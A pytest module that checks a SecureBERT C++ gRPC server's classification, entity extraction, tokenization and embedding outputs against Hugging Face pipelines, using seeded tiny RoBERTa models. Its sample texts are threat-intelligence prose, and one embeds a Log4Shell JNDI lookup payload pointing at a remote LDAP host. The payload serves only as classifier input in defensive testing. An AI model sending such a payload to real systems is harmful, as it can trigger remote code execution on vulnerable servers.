"""Classify and ExtractEntities of the C++ server against Hugging Face's own pipelines.

transformers' RobertaForTokenClassification (40 BIO labels) and RobertaForSequenceClassification
(4 softmax labels; 6 multi-label sigmoid labels; 1 label, which the pipeline scores with a
sigmoid) are built with SecureBERT's config at 2 layers of width 64 and seeded random weights;
config.json carries id2label and a label2id that contradicts it (only id2label counts). Each is
saved with save_pretrained beside the tokenizer as transformers 5 saves it (tokenizer.json,
tokenizer_config.json with model_max_length 512), exported with `tools/export_model.py
--hf-dir` and served by the real securebert-server binary on loopback. The pipelines load the
same saved directories. All texts go to the server in one request (batched and padded there),
to the pipeline one at a time.

The head's logits are scaled to a known spread and its bias centred on these texts (plus a
prior for "O" and a few entity types), so labels vary from token to token; the best two labels
of every token are at least MIN_MARGIN apart and the texts reach the cases below
(test_texts_exercise_the_pipeline).

Compared exactly, or within TOLERANCE for scores (fp32):
  - Classify, top_k 0 (every label), 1 and 2: pipeline("text-classification", top_k=None or k,
    truncation=True): labels best first (a swap only where the two scores are within
    TOLERANCE), id, score; num_tokens and truncated.
  - ExtractEntities for every Aggregation: pipeline("token-classification",
    aggregation_strategy=none|simple|first|average|max), entity for entity: label (HF's
    "entity" for none, "entity_group" otherwise), score, start and end (HF's character offsets
    into the str as UTF-8 byte offsets, len(text[:i].encode())), text (the input's bytes
    [start, end)), token_index (HF's "index", none only). With a threshold t the server answers
    exactly the pipeline's entities with score >= t (t in wide gaps between HF's scores).
  - Texts: cybersecurity prose with URLs, IPs, CVE ids and hashes; words of many BPE tokens;
    "Müller", "naïve", a decomposed "café", CJK, Arabic, Devanagari, emoji with ZWJ and
    keycaps (byte-level tokens inside one character); "<mask>" after a space, tab, newline,
    NBSP, U+3000 or nothing, and <s> </s> <pad> <unk> as text; leading, trailing and repeated
    spaces; "", "   "; two texts truncated to 512 tokens (TRUNCATION_RIGHT, the pipeline's
    truncation), one cut inside an emoji.
  - A model without the head an RPC needs answers FAILED_PRECONDITION naming the head
    (Classify on the token model, ExtractEntities on the sequence model, PredictMask on both:
    no MLM head); GetModelInfo gives capabilities, labels in id order, head and multi_label;
    Embed on a head model is its encoder's.

Environment: as test_server_vs_transformers.py (SECUREBERT_SERVER_BIN required,
SECUREBERT_EXPORT_PYTHON optional). Needs transformers and grpcio-tools (the project's venv);
OMP_NUM_THREADS=1 keeps the tiny forwards fast beside other tests. Run with -rP to see the
measured differences.
"""

import contextlib
import dataclasses
import json
import os
import re
import sys
from pathlib import Path
from typing import Dict, List, Optional, Sequence, Tuple

import grpc
import pytest
import torch

import server_under_test
# Tests take pytest fixtures as arguments.
# pylint: disable=redefined-outer-name
# The SECUREBERT_SERVER_BIN and generated-stubs fixtures of the MLM parity test.
from test_server_vs_transformers import (  # noqa: F401  pylint: disable=unused-import
    pb, server_binary)

sys.path.insert(0, str(server_under_test.REPO_ROOT / "tools" / "tests"))
import hf_parity  # noqa: E402  pylint: disable=wrong-import-position
from hf_parity import TOLERANCE  # noqa: E402  pylint: disable=wrong-import-position
import transformers  # noqa: E402  pylint: disable=wrong-import-position,wrong-import-order

# The pipeline says so for first/average/max: RoBERTa's BPE has no continuing-subword prefix, so
# a token is a subword when neither it nor the character before it is a space.
pytestmark = pytest.mark.filterwarnings("ignore:Tokenizer does not support real words")

SEED = 2025
RPC_TIMEOUT_S = 120
STARTUP_TIMEOUT_S = 180
MAX_INPUT_TOKENS = 512
# Best minus second-best probability of every token, at least: any answer within TOLERANCE
# of the pipeline's then has its labels.
MIN_MARGIN = 2 * TOLERANCE
# Thresholds sit in gaps between neighbouring HF scores at least this wide.
THRESHOLD_GAP = 2e-3
STRATEGIES = ("none", "simple", "first", "average", "max")

_TAGS = ("MALWARE", "THREAT-ACTOR", "VULNERABILITY", "TOOL", "IP", "URL", "DOMAIN", "HASH", "FILE",
         "ORG", "PERSON", "LOCATION", "SOFTWARE", "CAMPAIGN", "TECHNIQUE", "INDICATOR",
         "PROTOCOL", "PORT", "EMAIL")
# "O", B-/I- pairs, and one label without a prefix (the pipeline treats it as an I- tag).
TOKEN_LABELS = ("O",) + tuple(f"{bi}-{tag}" for tag in _TAGS for bi in "BI") + ("MISC",)
# Logit priors of the token head: "O" and a few types win more often, so spans form.
_TOKEN_PRIORS = {"O": 6.0, **{f"{bi}-{tag}": 2.0 for tag in ("MALWARE", "IP", "URL", "FILE")
                              for bi in "BI"}, "MISC": 2.0}

_LONG = ("Analysts at Müller & Söhne traced the 攻撃者 behind Operation Naïve Dragon 🐉 to "
         "198.51.100.23, where hxxp://cdn-update[.]example/gate.php served CVE-2024-3094. ") * 30
TEXTS = (
    "APT29 (a.k.a. Cozy Bear) sent spear-phishing e-mails that dropped WellMess on hosts at "
    "203.0.113.45, which beaconed to hxxps://update-check[.]net/api/v2.",
    " Herr Müller from CERT-Bund said the naïve patch for CVE-2021-44228 left Log4Shell "
    "exploitable via ${jndi:ldap://198.51.100.7:1389/a}. ",
    "攻撃者はEmotetを使って認証情報を盗んだ。",
    "🔥 LockBit 3.0 encrypted \\\\fileserver01\\share, left README.txt 💀 and a note for the "
    "cafe\u0301 owner 👩\u200d💻.",
    "The <mask> group exploited CVE-2023-23397 in Outlook; Cobalt<mask>Strike beacons followed.",
    "Mimikatz dumped NTLMv2 hashes from lsass.exe (SHA-256 "
    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855).",
    "C2:\t45.77.65.211  port 443\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
    "Parser log: <s>GET /admin</s> 403 <pad><unk>",
    "Glued specials: <s></s><pad><unk><mask> and <unk>x y<unk>",
    "Redacted IOCs:\n<mask>\t<mask>\u00a0<mask>\u3000<mask><mask> (see ticket)",
    "مجموعة APT34 (OilRig) استهدفت خوادم Exchange",
    "हैकर समूह ने Windows सर्वर पर हमला किया",
    "Flags 🏳\ufe0f\u200d🌈 and keycaps 1\ufe0f\u20e3 in the Discord C2 channel",
    "Payload QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0MTIzNDU2Nzg5" * 2,
    "",
    "   ",
    "a",
    _LONG,
    "Alert " + "🔥" * 400,
)


@dataclasses.dataclass(frozen=True)
class HeadModel:
    """One transformers checkpoint under test."""

    name: str  # test id and directory name
    architecture: str  # the transformers class
    labels: Tuple[str, ...]  # id2label, in id order
    problem_type: Optional[str]  # config.problem_type; None leaves transformers' default
    logit_std: float  # std of the head's logits over TEXTS
    priors: Dict[str, float]  # label -> added to its logit (after centring)

    @property
    def pipeline_task(self) -> str:
        return ("token-classification" if self.architecture == "RobertaForTokenClassification"
                else "text-classification")


MODELS = {m.name: m for m in (
    HeadModel("token", "RobertaForTokenClassification", TOKEN_LABELS, None, 5.0, _TOKEN_PRIORS),
    HeadModel("sequence", "RobertaForSequenceClassification",
              ("benign", "phishing", "malware", "ransomware"), None, 1.5, {}),
    HeadModel("multi_label", "RobertaForSequenceClassification",
              ("T1566 phishing", "T1059 scripting", "T1486 encryption", "T1071 c2", "T1003 creds",
               "T1190 exploit"), "multi_label_classification", 2.0, {"T1566 phishing": -1.0}),
    HeadModel("single_logit", "RobertaForSequenceClassification", ("malicious",), None, 2.0, {}),
)}
SEQUENCE_MODELS = ("sequence", "multi_label", "single_logit")


def hf_tokenizer(directory: Path):
    """RoBERTa's fast tokenizer on SecureBERT's vocabulary, <mask> with lstrip, 512 tokens."""
    directory.mkdir(parents=True, exist_ok=True)
    for name in ("vocab.json", "merges.txt"):
        (directory / name).write_bytes((hf_parity.TOKENIZER_DIR / name).read_bytes())
    (directory / "special_tokens_map.json").write_text(json.dumps({
        "bos_token": "<s>", "eos_token": "</s>", "unk_token": "<unk>", "sep_token": "</s>",
        "pad_token": "<pad>", "cls_token": "<s>",
        "mask_token": {"content": "<mask>", "lstrip": True, "rstrip": False,
                       "normalized": False, "single_word": False}}))
    return transformers.RobertaTokenizerFast.from_pretrained(
        str(directory), model_max_length=MAX_INPUT_TOKENS)


def head_out_layer(model) -> torch.nn.Linear:
    """The head's last Linear (the one that gives the logits)."""
    head = model.classifier
    return head.out_proj if hasattr(head, "out_proj") else head


@torch.no_grad()
def build(spec: HeadModel, tokenizer, seed: int):
    """The transformers model of `spec`: seeded weights, the head calibrated on TEXTS."""
    shape = hf_parity.SHAPES["tiny"]
    n = len(spec.labels)
    config = transformers.RobertaConfig(
        **dict(hf_parity.SECUREBERT_CONFIG, **shape.overrides), initializer_range=shape.weight_std,
        id2label=dict(enumerate(spec.labels)),
        # A permutation of the ids (a reader that trusts label2id gets the order wrong), or for
        # one label transformers' default name, as in a checkpoint whose id2label was edited.
        label2id=({label: (7 * i + 3) % n for i, label in enumerate(spec.labels)} if n > 1
                  else {"LABEL_0": 0}),
        **({"problem_type": spec.problem_type} if spec.problem_type else {}))
    torch.manual_seed(seed)
    model = getattr(transformers, spec.architecture)(config).eval()
    generator = torch.Generator().manual_seed(seed)
    for name, param in model.named_parameters():
        noise = torch.randn(param.shape, generator=generator)
        if "LayerNorm.weight" in name:
            param.copy_(1.0 + 0.1 * noise)
        elif name.endswith(".weight"):
            param.copy_(shape.weight_std * noise)
        else:
            param.copy_(0.05 * noise)
    # Logits with a zero bias are linear in the weight: scale it to the spread, then centre.
    out = head_out_layer(model)
    out.bias.zero_()
    logits = head_logits(model, tokenizer, TEXTS)
    gain = spec.logit_std / float(logits.std())
    out.weight.mul_(gain)
    prior = torch.tensor([spec.priors.get(label, 0.0) for label in spec.labels])
    out.bias.copy_(prior - gain * logits.mean(dim=0))
    return model


@torch.no_grad()
def head_logits(model, tokenizer, texts: Sequence[str]) -> torch.Tensor:
    """[rows, num_labels]: every real token's logits (token head) or every text's (sequence)."""
    rows = []
    for text in texts:
        encoding = tokenizer(text, truncation=True, return_tensors="pt")
        logits = model(**encoding).logits
        rows.append(logits[0] if logits.dim() == 3 else logits)
    return torch.cat(rows)


@dataclasses.dataclass
class Served:
    """One exported model, its server and its pipeline."""

    spec: HeadModel
    model: object  # transformers' model as the pipeline loaded it from the saved directory
    pipe: object  # transformers' pipeline on the saved directory
    stub: object  # SecureBertStub of the server on the exported directory; None before it runs
    cache: Dict[object, object] = dataclasses.field(default_factory=dict)  # pipeline answers


@contextlib.contextmanager
def serving(binary: Path, model_dir: Path, pb2_grpc):
    """A SecureBertStub on a started server; the server must exit 0 when stopped."""
    server = server_under_test.ServerProcess(
        binary, ["--model_dir", str(model_dir), "--shutdown_linger_ms=0"])
    try:
        port, _ = server.wait_until_ready(STARTUP_TIMEOUT_S)
        with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
            yield pb2_grpc.SecureBertStub(channel)
    finally:
        status = server.stop()
    assert status == 0, f"server exited with status {status}; its log:\n{server.log()}"


class Servers:
    """Builds, exports and serves each model the first time a test asks for it.

    A model whose setup failed fails every later test that asks for it at once, with the
    first error, instead of exporting again.
    """

    def __init__(self, binary: Path, pb2_grpc, root: Path):
        self._binary, self._pb2_grpc, self._root = binary, pb2_grpc, root
        self._tokenizer = hf_tokenizer(root / "tokenizer")
        self._stack = contextlib.ExitStack()
        self._prepared: Dict[str, Served] = {}  # exported, with its pipeline
        self._failed: Dict[str, str] = {}  # name -> what went wrong

    def pipeline_only(self, name: str) -> Served:
        """The model exported and its pipeline loaded; no server (stub None) unless get() ran."""
        if name not in self._prepared:
            self._prepared[name] = self._recorded(name, "export", self._prepare, name)
        return self._prepared[name]

    def get(self, name: str) -> Served:
        """The model exported and served."""
        served = self.pipeline_only(name)
        if served.stub is None:
            server = serving(self._binary, self._root / name / "model", self._pb2_grpc)
            served.stub = self._recorded(name, "serve", self._stack.enter_context, server)
        return served

    def _recorded(self, name: str, step: str, function, *args):
        """function(*args); an exception is remembered for `name`'s later tests, then raised."""
        if name in self._failed:
            pytest.fail(f"the {name} model failed earlier: {self._failed[name]}", pytrace=False)
        try:
            return function(*args)
        except Exception as e:
            self._failed[name] = f"{step}: {type(e).__name__}: {str(e)[-3000:]}"
            raise

    def _prepare(self, name: str) -> Served:
        spec = MODELS[name]
        source = self._root / name / "hf"
        build(spec, self._tokenizer, SEED).save_pretrained(str(source))
        self._tokenizer.save_pretrained(str(source))
        saved = hf_parity.read_json(source / "config.json")
        assert saved["architectures"] == [spec.architecture]
        assert any(saved["label2id"].get(label) != int(i)
                   for i, label in saved["id2label"].items())
        python = os.environ.get("SECUREBERT_EXPORT_PYTHON", sys.executable)
        hf_parity.run_exporter("--hf-dir", str(source), "--out", str(self._root / name / "model"),
                               python=python)
        pipe = transformers.pipeline(spec.pipeline_task, model=str(source), tokenizer=str(source),
                                     device="cpu")
        assert pipe.tokenizer.model_max_length == MAX_INPUT_TOKENS
        return Served(spec, pipe.model.eval(), pipe, None)

    def close(self) -> None:
        self._stack.close()


@pytest.fixture(scope="module")
def servers(server_binary, pb, tmp_path_factory):  # noqa: F811 (the imported fixtures)
    _, pb2_grpc = pb
    registry = Servers(server_binary, pb2_grpc, tmp_path_factory.mktemp("heads"))
    try:
        yield registry
    finally:
        registry.close()


@pytest.fixture(scope="module")
def pb2(pb):  # noqa: F811
    return pb[0]


def byte_offset(text: str, index: int) -> int:
    """HF's character offset `index` into `text` as a byte offset into its UTF-8."""
    return len(text[:index].encode("utf-8"))


def hf_ids(served: Served, text: str) -> Tuple[List[int], bool]:
    """(the pipeline's input ids, whether truncation cut the text)."""
    tokenizer = served.pipe.tokenizer
    ids = tokenizer(text, truncation=True)["input_ids"]
    return ids, len(tokenizer(text)["input_ids"]) > len(ids)


# ------------------------------------------------------------------ the texts and the models

def test_texts_exercise_the_pipeline(servers):
    """The token model's answers on TEXTS reach the cases the docstring promises."""
    served = servers.pipeline_only("token")
    probs = torch.softmax(head_logits(served.model, served.pipe.tokenizer, TEXTS), dim=-1)
    best2 = probs.topk(2, dim=-1).values
    margin = float((best2[:, 0] - best2[:, 1]).min())
    print(f"token head: {probs.shape[0]} tokens, smallest best-minus-second margin {margin:.2e}")
    assert margin >= MIN_MARGIN, "a near-tie: choose another SEED"
    none = [e for text in TEXTS for e in pipeline_entities(served, text, "none")]
    labels = {e["entity"] for e in none}
    real_tokens = sum(len(hf_ids(served, text)[0]) - 2 for text in TEXTS)
    assert len(labels) >= 15 and len(none) < 0.8 * real_tokens, "entities and O both common"
    simple = [e for text in TEXTS for e in pipeline_entities(served, text, "simple")]
    assert len(simple) < len(none), "some SIMPLE spans hold several tokens"
    assert any(e["start"] == e["end"] for e in none), "a whitespace token is an entity"
    assert any(len(text[e["start"]:e["end"]].encode()) > e["end"] - e["start"]
               for text in TEXTS for e in pipeline_entities(served, text, "none"))
    words = {s: [(e["entity_group"], e["start"], e["end"]) for text in TEXTS
                 for e in pipeline_entities(served, text, s)] for s in ("first", "average", "max")}
    assert len({tuple(v) for v in words.values()}) == 3, "FIRST, AVERAGE and MAX disagree"
    assert hf_ids(served, _LONG)[1] and len(hf_ids(served, _LONG)[0]) == MAX_INPUT_TOKENS


def test_server_tokenizes_as_the_pipeline(servers, pb2):
    served = servers.get("token")
    response = served.stub.Tokenize(pb2.TokenizeRequest(
        inputs=TEXTS, truncation=pb2.TRUNCATION_RIGHT), timeout=RPC_TIMEOUT_S)
    for text, result in zip(TEXTS, response.results):
        ids, truncated = hf_ids(served, text)
        assert [t.id for t in result.tokens] == ids, repr(text[:60])
        assert result.truncated == truncated


@pytest.mark.parametrize("name, capabilities, head", [
    ("token", ["embed", "extract_entities"], "token_classification"),
    ("sequence", ["embed", "classify"], "sequence_classification"),
    ("multi_label", ["embed", "classify"], "sequence_classification"),
])
def test_model_info_describes_the_head(servers, pb2, name, capabilities, head):
    served = servers.get(name)
    info = served.stub.GetModelInfo(pb2.GetModelInfoRequest(), timeout=RPC_TIMEOUT_S)
    id2label = served.model.config.id2label
    assert list(info.capabilities) == capabilities
    assert list(info.labels) == [id2label[i] for i in range(len(id2label))]
    assert list(info.labels) == list(served.spec.labels)
    assert info.head == head
    assert info.multi_label == (served.spec.problem_type == "multi_label_classification")


@pytest.mark.parametrize("name", ["token", "sequence"])
def test_embed_on_a_head_model_is_its_encoder(servers, pb2, name):
    served = servers.get(name)
    response = served.stub.Embed(pb2.EmbedRequest(
        inputs=TEXTS, pooling=pb2.POOLING_CLS, truncation=pb2.TRUNCATION_RIGHT),
        timeout=RPC_TIMEOUT_S)
    worst = 0.0
    with torch.no_grad():
        for text, embedding in zip(TEXTS, response.embeddings):
            ids, _ = hf_ids(served, text)
            expected = served.model.roberta(input_ids=torch.tensor([ids])).last_hidden_state[0, 0]
            worst = max(worst, hf_parity.max_abs_diff(torch.tensor(list(embedding.values)),
                                                      expected))
    print(f"Embed POOLING_CLS on the {name} model: max |diff| {worst:.2e}")
    assert worst <= TOLERANCE


_MLM = r"(mlm|masked[ _-]?(lm|language)|lm[ _-]?head)"


@pytest.mark.parametrize("name, rpc, head", [
    ("token", "Classify", r"sequence[ _-]classification"),
    ("token", "PredictMask", _MLM),
    ("sequence", "ExtractEntities", r"token[ _-]classification"),
    ("sequence", "PredictMask", _MLM),
])
def test_missing_head_is_failed_precondition(servers, pb2, name, rpc, head):
    served = servers.get(name)
    request = getattr(pb2, f"{rpc}Request")(inputs=["The <mask> dropped a loader."])
    with pytest.raises(grpc.RpcError) as raised:
        getattr(served.stub, rpc)(request, timeout=RPC_TIMEOUT_S)
    error = raised.value
    assert error.code() == grpc.StatusCode.FAILED_PRECONDITION, (error.code(), error.details())
    assert re.search(head, error.details(), re.IGNORECASE), error.details()
    print(f"{rpc} on the {name} model: {error.code().name}: {error.details()}")


# ------------------------------------------------------------------------------ Classify

def pipeline_labels(served: Served, text: str, top_k: Optional[int]) -> List[dict]:
    key = ("classify", text, top_k)
    if key not in served.cache:
        served.cache[key] = served.pipe(text, top_k=top_k, truncation=True)
    return served.cache[key]


@pytest.mark.parametrize("top_k", [0, 1, 2])
@pytest.mark.parametrize("name", SEQUENCE_MODELS)
def test_classify_matches_text_classification_pipeline(servers, pb2, name, top_k):
    served = servers.get(name)
    response = served.stub.Classify(pb2.ClassifyRequest(
        inputs=TEXTS, top_k=top_k, truncation=pb2.TRUNCATION_RIGHT), timeout=RPC_TIMEOUT_S)
    assert len(response.results) == len(TEXTS)
    id2label = served.model.config.id2label
    worst = 0.0
    for text, result in zip(TEXTS, response.results):
        ids, truncated = hf_ids(served, text)
        assert (result.num_tokens, result.truncated) == (len(ids), truncated), repr(text[:60])
        everything = {d["label"]: d["score"] for d in pipeline_labels(served, text, None)}
        expected = pipeline_labels(served, text, top_k or None)
        got = [(s.label, s.score) for s in result.labels]
        assert len(got) == len(expected), (repr(text[:60]), got, expected)
        for rank, (score, want) in enumerate(zip(result.labels, expected)):
            assert id2label[score.id] == score.label, (score.id, score.label)
            diff = abs(score.score - everything[score.label])
            worst = max(worst, diff)
            assert diff <= TOLERANCE, (repr(text[:60]), rank, got, expected)
            assert score.label == want["label"] or abs(
                everything[score.label] - want["score"]) <= TOLERANCE, (repr(text[:60]), got,
                                                                        expected)
    spread = [pipeline_labels(served, t, None)[0]["label"] for t in TEXTS]
    print(f"Classify {name} top_k={top_k}: max |score diff| {worst:.2e} "
          f"({len(set(spread))} different best labels over {len(TEXTS)} texts)")


# ----------------------------------------------------------------------- ExtractEntities

def pipeline_entities(served: Served, text: str, strategy: str) -> List[dict]:
    key = ("entities", text, strategy)
    if key not in served.cache:
        served.cache[key] = served.pipe(text, aggregation_strategy=strategy)
    return served.cache[key]


def expected_entity(text: str, strategy: str, entity: dict) -> dict:
    """A pipeline entity in the server's terms (byte offsets, the span's text)."""
    start, end = byte_offset(text, entity["start"]), byte_offset(text, entity["end"])
    return {"label": entity["entity" if strategy == "none" else "entity_group"],
            "score": float(entity["score"]), "start": start, "end": end,
            "text": text[entity["start"]:entity["end"]],
            "token_index": entity["index"] if strategy == "none" else 0}


def got_entity(entity) -> dict:
    return {"label": entity.label, "score": entity.score, "start": entity.start,
            "end": entity.end, "text": entity.text, "token_index": entity.token_index}


def entity_problems(text: str, got: List[dict], want: List[dict]) -> Tuple[List[str], float]:
    """(what differs between the server's and the pipeline's entities of `text`, max score diff)."""
    problems, worst = [], 0.0
    data = text.encode("utf-8")
    for g in got:
        if data[g["start"]:g["end"]] != g["text"].encode("utf-8"):
            problems.append(f"text {g['text']!r} is not the input's bytes "
                            f"[{g['start']}, {g['end']}) = {data[g['start']:g['end']]!r}")
    for index, (g, w) in enumerate(zip(got, want)):
        diff = abs(g["score"] - w["score"])
        worst = max(worst, diff)
        if diff > TOLERANCE or {**g, "score": 0} != {**w, "score": 0}:
            problems.append(f"entity {index}: server {g}, pipeline {w}")
    if len(got) != len(want):
        extra = got[len(want):] or want[len(got):]
        problems.append(f"server {len(got)} entities, pipeline {len(want)}; the first extra "
                        f"({'server' if len(got) > len(want) else 'pipeline'}): {extra[0]}")
    return problems, worst


def extract(served: Served, pb2, strategy: str, threshold: float = 0.0):
    aggregation = getattr(pb2, f"AGGREGATION_{strategy.upper()}")
    return served.stub.ExtractEntities(pb2.ExtractEntitiesRequest(
        inputs=TEXTS, aggregation=aggregation, threshold=threshold,
        truncation=pb2.TRUNCATION_RIGHT), timeout=RPC_TIMEOUT_S)


def compare_entities(served: Served, response, strategy: str, threshold: float = 0.0):
    """(problems over TEXTS, max score diff, entities compared)."""
    assert len(response.results) == len(TEXTS)
    problems, worst, count = [], 0.0, 0
    for text, result in zip(TEXTS, response.results):
        ids, truncated = hf_ids(served, text)
        if (result.num_tokens, result.truncated) != (len(ids), truncated):
            problems.append(f"{text[:40]!r}: num_tokens/truncated {result.num_tokens}/"
                            f"{result.truncated}, pipeline {len(ids)}/{truncated}")
        want = [expected_entity(text, strategy, e)
                for e in pipeline_entities(served, text, strategy) if e["score"] >= threshold]
        found, diff = entity_problems(text, [got_entity(e) for e in result.entities], want)
        problems += [f"{text[:40]!r}: {p}" for p in found[:5]]
        worst, count = max(worst, diff), count + len(want)
    return problems, worst, count


@pytest.mark.parametrize("strategy", STRATEGIES)
def test_extract_entities_matches_token_classification_pipeline(servers, pb2, strategy):
    served = servers.get("token")
    problems, worst, count = compare_entities(served, extract(served, pb2, strategy), strategy)
    print(f"ExtractEntities {strategy}: {count} entities, max |score diff| {worst:.2e}")
    assert not problems, "\n".join(problems)


def thresholds(scores: Sequence[float]) -> List[float]:
    """Midpoints of gaps wider than THRESHOLD_GAP between HF's sorted scores, at 1/4, 1/2, 3/4."""
    ordered = sorted(set(scores))
    gaps = [(a + b) / 2 for a, b in zip(ordered, ordered[1:]) if b - a > THRESHOLD_GAP]
    return sorted({gaps[int(len(gaps) * q)] for q in (0.25, 0.5, 0.75)}) if gaps else []


@pytest.mark.parametrize("strategy", STRATEGIES)
def test_extract_entities_threshold_keeps_scores_at_or_above_it(servers, pb2, strategy):
    served = servers.get("token")
    scores = [float(e["score"]) for text in TEXTS
              for e in pipeline_entities(served, text, strategy)]
    chosen = thresholds(scores)
    assert len(chosen) == 3, chosen
    for threshold in chosen:
        response = extract(served, pb2, strategy, threshold)
        problems, worst, count = compare_entities(served, response, strategy, threshold)
        print(f"ExtractEntities {strategy} threshold {threshold:.4f}: {count} of {len(scores)} "
              f"entities, max |score diff| {worst:.2e}")
        assert not problems, "\n".join(problems)
